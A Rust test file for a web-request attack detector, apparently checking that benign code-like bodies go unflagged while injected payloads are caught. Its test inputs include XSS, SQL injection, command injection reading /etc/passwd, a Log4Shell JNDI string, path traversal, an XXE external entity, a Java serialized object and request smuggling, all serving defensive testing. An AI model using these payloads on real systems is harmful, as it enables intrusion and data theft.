//! Does a document that holds code by its nature count least, and does a break-out in it still count?

use crate::detect::rule_set::RuleSet;
use crate::detect::scan::Scan;
use crate::exchange::head::Head;
use crate::read::{self, Body};

/// The points of a request with this body, taken alone, as `rule severity`.
fn found(content_type: &str, body: impl AsRef<[u8]>) -> Vec<String> {
    let rules = RuleSet::builtin();
    let head = Head::new([(":method", "POST"), (":path", "/"), ("content-type", content_type)].into_iter().collect());
    let mut scan = Scan::new();
    read::head(&head, &mut |field| scan.push(&rules, field));
    let mut reader = Body::new(&head, 128 * 1024);
    reader.push(body.as_ref(), &mut |field| scan.push(&rules, field));
    reader.finish(&mut |field| scan.push(&rules, field));
    let line = |one: &crate::detect::detection::Detection| format!("{} {:?}", rules.rule(one.rule).id, one.severity);
    scan.take().iter().map(line).collect()
}

fn accused(lines: &[String]) -> bool {
    lines.iter().any(|line| !line.ends_with("Low"))
}

const JSON: &str = "application/json";

#[test]
fn what_holds_code_by_its_nature_counts_least() {
    let rows = [
        (
            JSON,
            r#"{"doc":{"content":[{"type":"codeBlock","content":[{"type":"text","text":"x; cat a.txt | sort"}]}]}}"#,
        ),
        (JSON, r#"{"csp-report":{"script-sample":"alert(1)"}}"#),
        (
            JSON,
            r#"{"error":{"stack":"at eval (eval at <anonymous> (https://a.example/x.js:1:1))\n  at new Function (<anonymous>)"}}"#,
        ),
        (JSON, r#"{"spec":{"command":["sh","-c","echo a; sleep 30"]}}"#),
        (JSON, r#"{"url":"git+https://git.example/a.git"}"#),
        (JSON, r#"{"dsn":"postgres://shop:p%40ss@localhost:5432/shop"}"#),
        (JSON, r#"{"order":"name ASC; id DESC"}"#),
        (JSON, r#"{"html":"<p>a</p><script type=\"application/ld+json\">{\"@type\":\"x\"}</script>"}"#),
        (JSON, r#"{"a":"<p>see &#x27;sort -u a.txt&#x27; &amp; more</p>"}"#),
        (JSON, r#"{"variables":{"filter":{"age":{"$gt":3}}}}"#),
        (JSON, r#"{"text":"value is zero: <empty>"}"#),
        ("application/xml", "<f><cql>a like '%x%' and b > 2 or c = 'd'</cql></f>"),
        ("application/xml", "<c>&lt;time&gt; and &lt;script type=&quot;application/json&quot;&gt; are names</c>"),
        (
            "application/x-www-form-urlencoded",
            "filter=%3Cf%3E%3Cwhere%3Ea+%3D+%27b%27+or+c+in+%281%2C2%29%3C%2Fwhere%3E%3C%2Ff%3E",
        ),
    ];
    for (content_type, body) in rows {
        let lines = found(content_type, body);
        assert!(!accused(&lines), "{body}: {lines:?}");
    }
}

#[test]
fn a_break_out_counts_in_a_document_of_many_members() {
    let members: String = (0..40).map(|number| format!("\"m{number}\":\"x\",")).collect();
    for payload in [
        "x\\\";alert(1)//",
        "' or 1=1--",
        "1 union select a,b from c",
        "x; cat /etc/passwd",
        "${jndi:ldap://x.example/a}",
        "../../../../etc/passwd",
    ] {
        let lines = found(JSON, format!("{{{members}\"comment\":\"{payload}\"}}"));
        assert!(accused(&lines), "{payload}: {lines:?}");
    }
}

#[test]
fn a_block_of_code_ends_with_its_object() {
    let lines = found(JSON, r#"{"type":"code","text":"x; cat /etc/passwd"}"#);
    assert!(accused(&lines), "the outermost object is no block: {lines:?}");
}

#[test]
fn very_many_operations_of_graphql_are_odd() {
    let batch =
        |count: usize| format!("[{}]", vec![r#"{"query":"mutation { login(pin: 1) { ok } }"}"#; count].join(","));
    let is_batch = |count: usize| found(JSON, batch(count)).iter().any(|line| line == "graphql.batch Low");
    assert!(!is_batch(10) && is_batch(20));
}

#[test]
fn what_bytes_that_are_no_text_carry_along_is_found() {
    let head = b"RIFF\xb8\0\0\0WAVEiXML\x7b\0\0\0";
    let sound =
        [&head[..], b"<?xml version=\"1.0\"?><!DOCTYPE a[<!ENTITY % b SYSTEM 'http://x.example/c'>%b;]>\0\0"].concat();
    let part = |kind: &str, content: &[u8]| {
        let head =
            format!("--b\r\ncontent-disposition: form-data; name=f; filename=a.bin\r\ncontent-type: {kind}\r\n\r\n");
        [head.as_bytes(), content, b"\r\n--b--\r\n"].concat()
    };
    let stream = [&[b'='; 95][..], b"\xac\xed\0\x05sr\0\x1ajava.security.SignedObject"].concat();
    for (kind, body, rule) in [
        ("multipart/form-data; boundary=b", part("audio/wave", &sound), "xxe."),
        ("application/octet-stream", stream, "code-injection.java-object"),
    ] {
        let lines = found(kind, &body);
        assert!(lines.iter().any(|line| line.starts_with(rule)), "{rule}: {lines:?}");
    }
}

#[test]
fn a_batch_holds_requests_and_a_field_of_a_form_does_not_become_one() {
    let part = |name: &str| {
        let kind = "content-type: application/http\r\n\r\n";
        format!("--b\r\n{name}{kind}POST https://x.example/t HTTP/1.1\r\naccept: */*\r\n\r\n{{}}\r\n--b--\r\n")
    };
    let smuggles = |name: &str| {
        let lines = found("multipart/mixed; boundary=b", part(name));
        lines.iter().any(|line| line.starts_with("request-smuggling."))
    };
    assert!(!smuggles(""));
    assert!(smuggles("content-disposition: form-data; name=\"a\"\r\n"));
}
